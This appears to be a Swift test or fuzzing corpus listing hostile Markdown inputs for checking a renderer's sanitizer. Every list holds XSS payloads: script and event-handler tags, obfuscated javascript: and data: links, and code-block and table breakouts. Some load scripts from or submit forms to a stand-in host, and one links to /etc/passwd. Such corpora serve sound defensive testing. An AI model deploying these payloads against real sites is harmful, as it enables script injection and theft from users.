/// Markdown that would run, or lead to, what its author wants, if it came through.
enum HostileMarkdown {
  static let all = tags + links + places

  /// Pieces that put the others in new places.
  static let marks = [
    "> ", "- ", "1. ", "# ", "```\n", "~~~", "    ", "|", "|---|\n", "| a |\n|---|\n", "- [ ] ", "- [x] ", "*", "**",
    "_",
    "`", "[", "]", "](", "![", ")", "<", ">", "\"", "'", "<!--", "-->", "<x>", "# <x> a #", "\\", "&", ";", "===\n",
    "\t",
    "\u{0}", "[a]: ", "[a]", "~~", "<br>", "</p>", "\r",
  ]

  private static let tags = [
    "<script>alert(1)</script>", "<SCRIPT SRC=https://e.example/x.js></SCRIPT>", "<script\n>alert(1)</script\n>",
    "a <script>alert(1)</script> b", "<img src=x onerror=alert(1)>", "a <img src=x onerror=alert(1)> b",
    "<svg/onload=alert(1)>", "<svg><script>alert(1)</script></svg>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>", "<a href='javascript:alert(1)'>b</a>", "<a href=\"data:text/html,x\">b</a>",
    "<style>@import 'https://e.example'</style>", "<link rel=stylesheet href=https://e.example>",
    "<base href=//e.example>",
    "<meta http-equiv=refresh content='0;url=https://e.example'>", "<form action=https://e.example><input type=submit>",
    "<input onfocus=alert(1) autofocus>", "<details open ontoggle=alert(1)>", "<math><mi xlink:href='javascript:x'>",
    "<object data=javascript:alert(1)>", "<embed src=javascript:alert(1)>", "<video><source onerror=alert(1)>",
    "<textarea>\n\n<script>x</script>\n</textarea>", "<search>\n<script>x</script>",
    "<!--><script>alert(1)</script>-->",
    "<!-- --!><script>alert(1)</script> -->", "<!--\n<script>x</script>", "a <!--> <b>x</b> -->", "<?php <script> ?>",
    "<!X <script>alert(1)</script>", "<![CDATA[<script>alert(1)</script>]]>", "<br onclick=alert(1)>", "<br/x>",
    "<br\n>",
    "<x>", "# <x> a #", "<x onclick=alert(1)>", "<p", "</table></div>", "<scr<script>ipt>alert(1)</scr</script>ipt>",
  ]

  private static let links = [
    "[a](javascript:alert(1))", "[a](JaVaScRiPt:alert(1))", "[a](&#106;avascript:alert(1))",
    "[a](&#x6A;avascript&colon;x)",
    "[a](javascript&#58;alert(1))", "[a](java&Tab;script:x)", "[a](java&NewLine;script:x)", "[a](<java\tscript:x>)",
    "[a](&#1;javascript:x)", "[a](< javascript:x>)", "[a](\u{1}javascript:x)", "[a](javascript%3Ax)",
    "[a](%6Aavascript:x)",
    "[a](javascript\\:x)", "[a](\\javascript:x)", "[a](vbscript:x)", "[a](data:text/html;base64,PHNjcmlwdD4=)",
    "[a](DATA:text/html,x)", "[a](file:///etc/passwd)", "[a](blob:x)", "[a](//e.example)", "[a](\\\\e.example)",
    "[a](&#47;/e.example)", "[a](/\\e.example)", "[a](&bsol;/e.example)", "[a](/\t/e.example)", "[a](</ /e.example>)",
    "![a](javascript:alert(1))", "![a](https://e.example/p.png)", "![a\" onerror=\"x](b)",
    "[![a](javascript:x)](javascript:y)",
    "<javascript:alert(1)>", "<data:text/html,x>", "<JAVASCRIPT:x>", "[a][b]\n\n[b]: javascript:alert(1)",
    "[b]\n\n[b]: <java&#115;cript:x> 'y'", "[b]\n\n[B]:\ndata:x", "[a](https://b.example/\"onclick=alert(1)//)",
    "[a](b \"c\\\" onclick=\\\"alert(1)\")", "[a](b 'c\" onclick=\"x')", "[a](b \"&quot; onclick=&quot;x\")",
    "[a](https://b.example/<script>)", "[a](<b\"><script>x</script>>)", "[<script>x</script>](b)",
    "[a](javascript\u{AD}:x)",
    "[a](ｊavascript:x)", "[a](javascript：x)", "[a](view-source:javascript:x)", "[a](feed:javascript:x)",
    "[a](x:y:http:z)",
  ]

  private static let places = [
    "[<a@b.example>](c)", "[<https://a.example>](javascript:x)", "[a <https://b.example> ![c](d)](e)",
    "```\"><script>x</script>\n```", "```a&quot;><script>\n```", "``` \" onclick=\"x\n```",
    "~~~ <b>\n</code></pre><script>\n~~~",
    "`</code><script>x</script>`", "    </code></pre><script>x</script>", "# <script>x</script>", "# a\" onclick=\"x",
    "| <script>x</script> | a |\n|---|---|\n| <img src=x onerror=y> | [b](javascript:x) |",
    "| `<b>` |\n|---|\n| </td></table> |",
    "- [ ] <script>x</script>", "- [x] [a](javascript:x)", "> <script>\n> x\n> </script>",
    "&lt;script&gt;x&lt;/script&gt;",
    "&#60;script&#62;x", "&#x3C;img src=x&#x3E;", "\\<script>x\\</script>", "<script", "a\u{0}<scr\u{0}ipt>",
    "[a]: b \"<script>\"\n[a]",
  ]
}
